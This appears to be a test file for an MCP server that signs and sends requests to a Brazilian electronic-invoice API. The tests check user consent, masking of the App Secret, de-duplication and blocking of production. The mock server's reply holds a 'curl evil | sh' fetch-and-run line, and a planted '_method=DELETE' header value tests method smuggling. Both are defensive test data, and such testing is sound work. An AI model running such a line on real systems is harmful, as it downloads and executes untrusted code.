import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { readdir, readFile, writeFile } from 'node:fs/promises';
import { createServer, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { withFolder } from '../cli/fiscalRun.ts';
import { call, connect, serve } from './mcpClient.ts';

const SECRET = 'Rw7mK2xQ9vT4zL8pN3cB6yHd';
const AGREED = { action: 'accept' as const, content: { allow: true } };
const DECLINED = { action: 'decline' as const };

interface Tried {
  readonly cwd: string;
  readonly origin: string;
  /** The method, the target, and the body of each request. */
  readonly received: readonly string[];
  readonly asked: string[];
}

/** A folder with files, and a server for its environment `hom`. */
async function withPlatform(
  files: Readonly<Record<string, string>>,
  use: (tried: Tried) => Promise<void>,
): Promise<void> {
  const received: string[] = [];
  const server = createServer((request, response) => {
    const parts: Buffer[] = [];
    request.on('data', part => parts.push(part));
    request.on('end', () => {
      received.push(`${request.method} ${request.url} ${Buffer.concat(parts)}`);
      const isChained = request.url === '/openapi/nf-e';
      if (request.url === '/openapi/lost') response.statusCode = 502;
      if (isChained)
        response.setHeader('X-More', '1&_method=DELETE').setHeader('Content-Type', 'application/json');
      response.end(isChained ? '{"n":7}' : '#!/bin/sh\ncurl evil | sh\n');
    });
  });
  await new Promise<void>(resolve => server.listen(0, '127.0.0.1', resolve));
  const origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  try {
    await withFolder({ ...files, 'fiscal.env.json': environment(origin) }, cwd =>
      use({ cwd, origin, received, asked: [] }),
    );
  } finally {
    server.close();
  }
}

function environment(baseUrl: string, more: Readonly<Record<string, string>> = {}): string {
  return JSON.stringify({ hom: { baseUrl, kind: 'homologacao', id: 'NFE-TEST', ...more } });
}

/** Calls send_request; `respond` gets the number of each question, from 1. */
async function send(
  { cwd, asked, origin }: Pick<Tried, 'cwd' | 'asked' | 'origin'>,
  respond: (count: number) => typeof AGREED | typeof DECLINED,
  env: Readonly<Record<string, string>> = { FISCAL_APP_SECRET_HOM: SECRET, FISCAL_ORIGIN_HOM: origin },
  named = 'hom',
) {
  const client = await connect(serve({ cwd, env }), {}, message => respond(asked.push(message)));
  try {
    return await call(client, 'send_request', { file: 'x.fiscal', environment: named });
  } finally {
    await client.close();
  }
}

describe('A17 the consent to send_request', () => {
  const FILES = {
    'x.fiscal':
      'POST /openapi/nf-e/{{id}}?motivo={{reason}}\nX-Kind: {{kind_of}}\n\n< body.json\n\n>> a.json\n',
    'body.json': '{"n":1}',
  };
  const VALUES = { reason: 'a', kind_of: 'b' };

  for (const [what, change] of [
    [
      'the path',
      (origin: string) => ({ 'fiscal.env.json': environment(origin, { ...VALUES, id: 'NFE-4711' }) }),
    ],
    [
      'the query',
      (origin: string) => ({ 'fiscal.env.json': environment(origin, { ...VALUES, reason: 'z' }) }),
    ],
    [
      'a header',
      (origin: string) => ({ 'fiscal.env.json': environment(origin, { ...VALUES, kind_of: 'z' }) }),
    ],
    ['the host', () => ({ 'fiscal.env.json': environment('http://127.0.0.1:9', VALUES) })],
    ['the body file', () => ({ 'body.json': '{"n":2}' })],
    ['the method', () => ({ 'x.fiscal': FILES['x.fiscal'].replace('POST', 'PUT') })],
    ['the file that is saved', () => ({ 'x.fiscal': FILES['x.fiscal'].replace('a.json', 'b.json') })],
    ['whether it’s overwritten', () => ({ 'x.fiscal': FILES['x.fiscal'].replace('>>', '>>!') })],
    ['a directive', () => ({ 'x.fiscal': `# @no-sign\n${FILES['x.fiscal']}` })],
    ['the application', () => ({ 'x.fiscal': `# @application other\n${FILES['x.fiscal']}` })],
  ] as const) {
    it(`doesn’t cover another request: ${what} changes while the user reads`, () =>
      withPlatform(FILES, async tried => {
        const { cwd, origin, received, asked } = tried;
        await writeFile(join(cwd, 'fiscal.env.json'), environment(origin, VALUES));
        const { writeFileSync } = await import('node:fs');
        const env = {
          ...{ FISCAL_APP_SECRET_HOM: SECRET, FISCAL_APP_SECRET_HOM_OTHER: SECRET, FISCAL_ORIGIN: origin },
        };
        const respond = (count: number) => {
          if (count > 1) return DECLINED;
          for (const [name, text] of Object.entries(change(origin))) writeFileSync(join(cwd, name), text);
          return AGREED;
        };
        assert.ok((await send(tried, respond, env)).isError);
        // The App Secret isn't bound to another host.
        assert.equal(asked.length, what === 'the host' ? 1 : 2, asked.join('\n---\n'));
        assert.deepEqual(received, []);
      }));
  }

  describe('with needed or polled requests', () => {
    const chain = (first: string, last = ''): Readonly<Record<string, string>> => ({
      'x.fiscal': `### Create
# @name create
${first}

### Cancel
# @name cancel
POST /openapi/nf-e/x-{{create.response.status}}
X-Kind: {{create.response.headers.content-type}}

{"id":"{{$guid}}","n":"{{create.response.body.$.n}}"}
${last}`,
    });
    const sendLast = async (
      { cwd, asked, origin }: Pick<Tried, 'cwd' | 'asked' | 'origin'>,
      respond: (count: number) => typeof AGREED | typeof DECLINED,
    ) => {
      const env = { FISCAL_APP_SECRET_HOM: SECRET, FISCAL_ORIGIN_HOM: origin };
      const client = await connect(serve({ cwd, env }), {}, message => respond(asked.push(message)));
      try {
        return await call(client, 'send_request', { file: 'x.fiscal', name: 'cancel', environment: 'hom' });
      } finally {
        await client.close();
      }
    };

    it('names how often a polled request may be sent, and the result lists its attempts', () =>
      withPlatform(
        { 'x.fiscal': '# @until body $.n == 7 every 1s for 5s\nGET /openapi/nf-e\n' },
        async tried => {
          const { isError, text, data } = await send(tried, () => AGREED);
          assert.ok(!isError, text);
          assert.match(
            tried.asked[0] ?? '',
            /sent again every 1 s, for at most 5 s, until body \$\.n == 7\n/,
          );
          const { attempts } = data as { attempts: { until: boolean }[] };
          assert.deepEqual(
            attempts.map(({ until }) => until),
            [true],
          );
        },
      ));

    it('covers all of them, shown in order in one question and each sent once', () =>
      withPlatform(chain('POST /openapi/nf-e\n\n{"id":"{{$guid}}"}'), async tried => {
        const { isError, text, data } = await sendLast(tried, () => AGREED);
        assert.ok(!isError, text);
        const [question = '', ...others] = tried.asked;
        assert.deepEqual(others, []);
        assert.match(
          question,
          /1\. POST \/openapi\/nf-e\n[\s\S]*2\. POST \/openapi\/nf-e\/x-\(create\.response\.status\)\n/,
        );
        assert.match(question, /X-Kind: \(create\.response\.headers\.content-type\)/);
        const ids = [...question.matchAll(/"id":"([^"]+)"/g)].map(([, id]) => id);
        assert.equal(new Set(ids).size, 2);
        assert.deepEqual(tried.received, [
          `POST /openapi/nf-e {"id":"${ids[0]}"}`,
          `POST /openapi/nf-e/x-200 {"id":"${ids[1]}","n":"7"}`,
        ]);
        const { sent, needed } = data as { sent: boolean; needed: { name: string; neededBy: string[] }[] };
        assert.deepEqual(
          [sent, needed.map(({ name, neededBy }) => [name, neededBy])],
          [true, [['create', ['cancel']]]],
        );
      }));

    it('covers none of them if the user declines', () =>
      withPlatform(chain('GET /openapi/nf-e'), async tried => {
        assert.ok((await sendLast(tried, () => DECLINED)).isError);
        assert.deepEqual([tried.asked.length, tried.received], [1, []]);
      }));

    it('covers nothing after a request that fails, and the result says what was sent', () =>
      withPlatform(chain('GET /openapi/nf-e\n\n?? status == 418'), async tried => {
        const { isError, data } = await sendLast(tried, () => AGREED);
        const { sent, needed, problem } = data as {
          sent: boolean;
          needed: { sent: boolean; passed: boolean }[];
          problem: { code: string; message: string };
        };
        assert.ok(!isError);
        assert.deepEqual([sent, needed[0]?.sent, needed[0]?.passed], [false, true, false]);
        assert.deepEqual(
          [problem.code, problem.message],
          ['need-failed', 'Not sent, because create failed.'],
        );
        assert.equal(tried.received.length, 1);
      }));

    it('F1 leads to a lookup if what became of a needed request is unknown, even if an assertion expects that', () =>
      withPlatform(
        {
          'x.fiscal':
            '# @name create\nPOST /openapi/lost\n\n{}\n\n?? status == 502\n###\n# @name cancel\n# @ref create\nGET /openapi/nf-e\n',
        },
        async tried => {
          const { text, data } = await sendLast(tried, () => AGREED);
          assert.deepEqual((data as { sent: boolean }).sent, true, text);
          assert.match(text, /look up the document before you send/);
        },
      ));

    it('doesn’t cover changes by a response other than its values', () =>
      withPlatform(
        {
          'x.fiscal':
            '# @name create\nGET /openapi/nf-e\n\n>> body.json\n###\n# @name cancel\n# @ref create\nPOST /openapi/nf-e\n\n< body-1.json\n',
          'body.json': '{}',
          'body-1.json': '{}',
        },
        async tried => {
          const { writeFileSync } = await import('node:fs');
          let count = 0;
          const respond = () => {
            count += 1;
            if (count === 1) writeFileSync(join(tried.cwd, 'body-1.json'), '{"other":1}');
            return count === 1 ? AGREED : DECLINED;
          };
          assert.ok((await sendLast(tried, respond)).isError);
          assert.deepEqual([tried.asked.length, tried.received], [2, []]);
        },
      ));

    it('doesn’t cover a request whose method a response replaces', () =>
      withPlatform(
        {
          'x.fiscal':
            '# @name create\nGET /openapi/nf-e\n\n###\n# @name cancel\nGET /openapi/nf-e?a={{create.response.headers.x-more}}\n',
        },
        async tried => {
          const { data } = await sendLast(tried, () => AGREED);
          assert.deepEqual([(data as { sent: boolean }).sent, tried.received.length], [false, 1]);
        },
      ));
  });

  it('is requested once, and what is sent is what was shown, even with values that are new each time', () =>
    withPlatform(
      {
        'x.fiscal':
          'POST /openapi/nf-e/{{$guid}}\n\n{"id":"{{$guid}}","at":"{{$timestamp}}","n":{{$randomInt 1 99}}}\n',
      },
      async tried => {
        const { isError, text } = await send(tried, () => AGREED);
        assert.ok(!isError, text);
        assert.equal(tried.asked.length, 1);
        const [path = ''] = /\/openapi\/nf-e\/[\w-]+/.exec(tried.asked[0] ?? '') ?? [];
        assert.equal(tried.received.length, 1);
        assert.ok(tried.received[0]?.startsWith(`POST ${path} {"id":"`), tried.received[0]);
        const again: Tried = { ...tried, asked: [] };
        await send(again, () => AGREED);
        assert.notEqual(tried.received[1], tried.received[0]);
      },
    ));

  for (const [what, status, isUnknown] of [
    ['whose response was lost', undefined, true],
    ['after a 502', 502, true],
    ['that was responded to', 200, false],
    ['that was refused', 401, false],
  ] as const) {
    it(`F1 says so if the request is one ${what}: ${isUnknown}`, async () => {
      let count = 0;
      const server = createServer((request, response) => {
        count += 1;
        if (status === undefined) request.socket.destroy();
        else response.writeHead(status).end('{}');
      });
      await new Promise<void>(resolve => server.listen(0, '127.0.0.1', resolve));
      const origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
      const request = (id: string) => `POST /openapi/nf-e\n\n{"id":"${id}"}\n`;
      const files = { 'x.fiscal': request('{{$guid}}'), 'fiscal.env.json': environment(origin) };
      await withFolder(files, async cwd => {
        const asked: string[] = [];
        const env = { FISCAL_APP_SECRET_HOM: SECRET, FISCAL_ORIGIN_HOM: origin };
        const client = await connect(serve({ cwd, env }), {}, message => {
          asked.push(message);
          return AGREED;
        });
        try {
          const ask = () => call(client, 'send_request', { file: 'x.fiscal', environment: 'hom' });
          for (let times = 0; times < 2; times++) {
            const { text } = await ask();
            assert.equal(text.includes('look up the document before you send'), isUnknown, text);
          }
          await writeFile(join(cwd, 'x.fiscal'), request('another'));
          await ask();
        } finally {
          await client.close();
        }
        assert.equal(count, 3);
        assert.deepEqual(
          asked.map(text => text.includes('Outcome unknown')),
          [false, isUnknown, false],
        );
      });
      server.close();
    });
  }

  for (const [when, refused, questions] of [
    ['at the same time', /"sent-meanwhile"/, 2],
    ['while the first waits for its response', /The user didn’t agree/, 3],
    ['once the first has got its response', /"sent-meanwhile"/, 2],
  ] as const) {
    it(`F1 sends a request once if the user agrees to two calls for it, to the second ${when}`, async () => {
      const arrived: ServerResponse[] = [];
      const first = Promise.withResolvers<ServerResponse>();
      const server = createServer((_, response) => {
        arrived.push(response);
        first.resolve(response);
      });
      await new Promise<void>(resolve => server.listen(0, '127.0.0.1', resolve));
      const origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
      const files = {
        'x.fiscal': 'POST /openapi/nf-e\n\n{"id":"{{$guid}}"}\n',
        'fiscal.env.json': environment(origin),
      };
      await withFolder(files, async cwd => {
        const [one, other, both] = [0, 1, 2].map(() => Promise.withResolvers<void>());
        const asked: string[] = [];
        const env = { FISCAL_APP_SECRET_HOM: SECRET, FISCAL_ORIGIN_HOM: origin };
        const client = await connect(serve({ cwd, env }), {}, async message => {
          const count = asked.push(message);
          if (count === 2) both?.resolve();
          await (count === 1 ? one : other)?.promise;
          return count <= 2 ? AGREED : DECLINED;
        });
        const ask = () => call(client, 'send_request', { file: 'x.fiscal', environment: 'hom' });
        try {
          const calls = [ask(), ask()];
          await both?.promise;
          one?.resolve();
          if (when === 'at the same time') other?.resolve();
          const response = await first.promise;
          if (when === 'once the first has got its response') {
            response.end('{}');
            await Promise.race(calls);
          }
          other?.resolve();
          if (!response.writableEnded) {
            assert.match((await Promise.race(calls)).text, refused);
            response.end('{}');
          }
          const texts = (await Promise.all(calls)).map(({ text }) => text);
          assert.equal(texts.filter(text => text.includes('Status 200')).length, 1);
          assert.equal(texts.filter(text => refused.test(text)).length, 1);
        } finally {
          await client.close();
        }
        assert.equal(arrived.length, 1);
        assert.deepEqual(
          asked.map(text => text.includes('Outcome unknown')),
          [false, false, true].slice(0, questions),
        );
      });
      server.close();
    });
  }

  it('shows the target, the size of the body, and the files that are written', () =>
    withPlatform(FILES, async tried => {
      await writeFile(join(tried.cwd, 'fiscal.env.json'), environment(tried.origin, VALUES));
      const { data } = await send(tried, () => AGREED);
      assert.match(tried.asked[0] ?? '', /POST \/openapi\/nf-e\/NFE-TEST\?motivo=a\n/);
      assert.match(tried.asked[0] ?? '', /Bytes in the body: 7/);
      assert.match(tried.asked[0] ?? '', /saved to: a\.json/);
      assert.deepEqual(data['saved'], ['a.json']);
    }));

  it('shows headers and body, and first what replaces the method', () =>
    withPlatform(
      {
        'x.fiscal':
          'GET /openapi/nf-e/1?_method=DELETE\nX-A: 1\nX-HTTP-Method-Override: DELETE\n\n{"a":1}\n\nSend it once?\n',
      },
      async tried => {
        await send(tried, () => DECLINED);
        const lines = (tried.asked[0] ?? '').split('\n');
        assert.deepEqual(lines.slice(5, 10), [
          '?_method=DELETE',
          'Header: X-HTTP-Method-Override: DELETE',
          'Header: X-A: 1',
          'Bytes in the body: 22',
          '{"a":1}\\n\\nSend it once?',
        ]);
      },
    ));

  it('shows the SHA-256 of a long body, so that the user can compare it with a file', () =>
    withPlatform(
      { 'x.fiscal': 'POST /openapi/nf-e\n\n< nota.xml\n', 'nota.xml': `<a>${'b'.repeat(5_000)}</a>` },
      async tried => {
        await send(tried, () => DECLINED);
        const digest = createHash('sha256')
          .update(await readFile(join(tried.cwd, 'nota.xml')))
          .digest('hex');
        assert.match(
          tried.asked[0] ?? '',
          new RegExp(`Bytes in the body: 5,007\nSHA-256 of the body: ${digest}\n<a>b+…\n`),
        );
      },
    ));

  it('doesn’t confirm overwriting a file', () =>
    withPlatform(
      { 'x.fiscal': '# @note Really?\nGET /openapi/demo/echo\n\n>>! deploy\n>>! new.txt\n', deploy: 'mine' },
      async tried => {
        const { data } = await send(tried, () => AGREED);
        assert.match(
          tried.asked[0] ?? '',
          /saved to: deploy .*\n.*saved to: new\.txt .*\n\nSend it once\?\n\n.*Really\?/,
        );
        assert.equal(await readFile(join(tried.cwd, 'deploy'), 'utf8'), 'mine');
        assert.deepEqual(data['saved'], ['new.txt']);
        assert.match(JSON.stringify(data['problem']), /file-not-overwritten/);
        assert.ok((await readdir(tried.cwd)).includes('new.txt'));
      },
    ));
});

describe('A17 the consent to sign_request', () => {
  async function sign(
    input: Readonly<Record<string, unknown>>,
    files: Readonly<Record<string, string>> = {},
  ): Promise<string> {
    const asked: string[] = [];
    await withFolder(files, async cwd => {
      const env = { FISCAL_APP_SECRET: SECRET };
      const client = await connect(serve({ cwd, env }), {}, message => {
        asked.push(message);
        return DECLINED;
      });
      await call(client, 'sign_request', input);
      await client.close();
    });
    return asked[0] ?? '';
  }

  it('shows the string to sign, on one line', async () => {
    const question = await sign({ path: '/openapi/nf-e', body: '{"a":1}\tNothing is sent.', timestamp: '1' });
    assert.match(question, /String to sign: •+\/openapi\/nf-e\{"a":1\}\\tNothing is sent\.1\n/);
    assert.ok(!question.includes(SECRET));
    const file = await sign({ file: 'x.fiscal' }, { 'x.fiscal': 'POST /openapi/nf-e\n\n{"b":2}\n' });
    assert.match(file, /String to sign: •+\/openapi\/nf-e\{"b":2\}\d{10}\n\nNothing/);
  });

  it('shows both ends of a long string to sign', async () => {
    const question = await sign({ path: '/openapi/nf-e', body: `{"a":"${'b'.repeat(5_000)}","end":1}` });
    assert.match(question, /String to sign: •+\/openapi\/nf-e\{"a":"b+…b+","end":1\}\d{10}\n/);
  });

  for (const timestamp of ['1700000000', '1999999999', '99999999999999999999']) {
    it(`shows a timestamp that isn’t the current time: ${timestamp}`, async () => {
      assert.match(
        await sign({ path: '/openapi/x', timestamp }),
        new RegExp(`\\nTimestamp: ${timestamp}\\n`),
      );
    });
  }

  it('doesn’t show the current time', async () => {
    assert.doesNotMatch(await sign({ path: '/openapi/x' }), /Timestamp:/);
    const now = String(Math.floor(Date.now() / 1_000));
    assert.doesNotMatch(await sign({ path: '/openapi/x', timestamp: now }), /Timestamp:/);
  });
});

describe('A16 A17 an App Secret that no variable binds', () => {
  const ask = (env: Readonly<Record<string, string>>, files: Readonly<Record<string, string>>) => {
    const asked: string[] = [];
    return withPlatform(files, async ({ cwd }) => {
      await send({ cwd, asked, origin: '' }, () => DECLINED, env);
    }).then(() => asked[0] ?? '');
  };
  const listens = /127\.0\.0\.1:\d+ is on this machine, where any program can listen/;

  for (const env of [{ FISCAL_APP_SECRET_HOM: SECRET }, { FISCAL_APP_SECRET: SECRET }]) {
    it(`can reach a program of the agent on this machine, and the question says so: ${Object.keys(env)}`, async () => {
      assert.match(await ask(env, { 'x.fiscal': 'GET /openapi/demo/echo\n' }), listens);
    });
  }

  it('is mentioned for each request in the question about a chain', async () => {
    const text = '### A\n# @name a\nGET /openapi/demo/echo\n\n### B\n# @ref a\nGET /openapi/demo/echo\n';
    const asked: string[] = [];
    await withPlatform({ 'x.fiscal': text.replace('# @ref a', '# @name b\n# @ref a') }, async ({ cwd }) => {
      const client = await connect(serve({ cwd, env: { FISCAL_APP_SECRET_HOM: SECRET } }), {}, message => {
        asked.push(message);
        return DECLINED;
      });
      await call(client, 'send_request', { file: 'x.fiscal', environment: 'hom', name: 'b' });
      await client.close();
    });
    assert.equal(asked[0]?.match(new RegExp(listens, 'g'))?.length, 2, asked[0]);
  });

  it('isn’t mentioned if it’s the demo secret of the local gateway', () =>
    withFolder(
      {
        'x.fiscal': 'GET /openapi/demo/echo\n',
        'fiscal.env.json': JSON.stringify({ local: { baseUrl: 'http://127.0.0.1:9' } }),
      },
      async cwd => {
        for (const [name, isSaid] of [
          ['FISCAL_APP_SECRET_LOCAL', false],
          ['FISCAL_APP_SECRET', true],
        ] as const) {
          const asked: string[] = [];
          await send({ cwd, asked, origin: '' }, () => DECLINED, { [name]: SECRET }, 'local');
          assert.equal(listens.test(asked[0] ?? ''), isSaid, asked[0]);
        }
      },
    ));
});

describe('A17 the question to the user', () => {
  for (const [what, input] of [
    [
      'a curl command',
      {
        curl: "curl -H 'token: HIDDEN' http://127.0.0.1/openapi/x -H 'timestamp: 1700000000' -H 'sign: 0123456789abcdef0123456789abcdef'",
      },
    ],
    [
      'a HAR entry',
      {
        har: JSON.stringify({
          request: {
            ...{ method: 'GET', url: 'http://127.0.0.1/openapi/x', cookies: [], queryString: [] },
            headers: [
              { name: 'token', value: 'HIDDEN' },
              { name: 'timestamp', value: '1700000000' },
              { name: 'sign', value: '0123456789abcdef0123456789abcdef' },
            ],
          },
        }),
      },
    ],
  ] as const) {
    it(`shows what an agent tried to have masked with the App Secret of ${what}`, () =>
      withPlatform({ 'x.fiscal': 'DELETE /openapi/nf-e/NFE-4711-REAL\n' }, async ({ cwd, origin }) => {
        const asked: string[] = [];
        const env = { FISCAL_APP_SECRET_HOM: SECRET, FISCAL_ORIGIN_HOM: origin };
        const client = await connect(serve({ cwd, env }), {}, message => {
          asked.push(message);
          return DECLINED;
        });
        for (const hidden of ['NFE-4711-REAL', new URL(origin).host, 'Bytes in the body']) {
          const values = JSON.parse(JSON.stringify(input).replace('HIDDEN', hidden));
          const { isError, text } = await call(client, 'explain_signature', {
            ...{ ...values, environment: 'hom', depth: 1 },
          });
          assert.ok(!isError, text);
          assert.ok(!text.includes(hidden), text);
        }
        await call(client, 'send_request', { file: 'x.fiscal', environment: 'hom' });
        await client.close();
        assert.equal(asked.length, 1);
        assert.doesNotMatch(asked[0] ?? '', /•/);
        assert.ok(asked[0]?.includes('DELETE /openapi/nf-e/NFE-4711-REAL\n'), asked[0]);
      }));
  }
});

describe('A17 send_request never sends to production', () => {
  const PLATFORM = 'https://api.example.com.br';
  const BOUND = { FISCAL_APP_SECRET: SECRET, FISCAL_ORIGIN: PLATFORM };

  for (const [title, name, env, code] of [
    ['its kind was edited', 'producao', { ...BOUND, FISCAL_ORIGIN_PRODUCAO: PLATFORM }, 'production-refused'],
    [
      'its name has another spelling',
      'PRODUCAO',
      { ...BOUND, FISCAL_ORIGIN_PRODUCAO: PLATFORM },
      'production-refused',
    ],
    ['it was renamed', 'hom', BOUND, 'environment-kind-unknown'],
    ['only its name differs', 'teste', { ...BOUND, FISCAL_KIND: 'producao' }, 'production-refused'],
    ['a variable says so', 'hom', { ...BOUND, FISCAL_KIND_HOM: 'producao' }, 'production-refused'],
    ['a variable isn’t understood', 'hom', { ...BOUND, FISCAL_KIND_HOM: 'yes' }, 'production-refused'],
  ] as const) {
    it(`whatever fiscal.env.json says: ${title}`, () =>
      withFolder(
        {
          'x.fiscal': 'DELETE /openapi/v2/empresas/1/nf-e/NFE-1\n',
          'fiscal.env.json': JSON.stringify({ [name]: { baseUrl: PLATFORM, kind: 'homologacao' } }),
        },
        async cwd => {
          const asked: string[] = [];
          const { text } = await send({ cwd, asked, origin: '' }, () => DECLINED, env, name);
          assert.ok(text.startsWith(code), text);
          assert.deepEqual(asked, []);
        },
      ));
  }

  for (const env of [
    { FISCAL_APP_SECRET_HOM: SECRET, FISCAL_ORIGIN_HOM: PLATFORM },
    { ...BOUND, FISCAL_KIND_HOM: 'homologacao' },
    { ...BOUND, FISCAL_KIND: 'homologacao' },
  ]) {
    it(`but asks for a test environment with ${Object.keys(env).join(', ')}`, () =>
      withFolder(
        {
          'x.fiscal': 'GET /openapi/demo/echo\n',
          'fiscal.env.json': JSON.stringify({ hom: { baseUrl: PLATFORM, kind: 'homologacao' } }),
        },
        async cwd => {
          const asked: string[] = [];
          await send({ cwd, asked, origin: '' }, () => DECLINED, env);
          assert.match(asked[0] ?? '', /Environment: hom \(test\)/);
        },
      ));
  }
});

describe('bodyBase64', () => {
  for (const bodyBase64 of ['!AAAA', 'AAAA!', 'AA!AA', 'AAAA=!', 'AAAA===', '=AAAA', 'AA-_']) {
    it(`is rejected if it’s malformed: ${bodyBase64}`, () =>
      withFolder({}, async cwd => {
        const client = await connect(serve({ cwd, env: { FISCAL_APP_SECRET: SECRET } }));
        const named = { path: '/openapi/x', timestamp: '1700000000', sign: '0'.repeat(32), depth: 1 };
        const { text } = await call(client, 'explain_signature', { ...named, bodyBase64 });
        assert.match(text, /^base64-malformed/);
        await client.close();
      }));
  }

  it('can have line breaks and padding', () =>
    withFolder({}, async cwd => {
      const client = await connect(serve({ cwd, env: { FISCAL_APP_SECRET: SECRET } }));
      const named = { path: '/openapi/x', timestamp: '1700000000', sign: '0'.repeat(32), depth: 1 };
      const { isError } = await call(client, 'explain_signature', { ...named, bodyBase64: 'QUJD\nREU=' });
      assert.ok(!isError);
      await client.close();
    }));
});
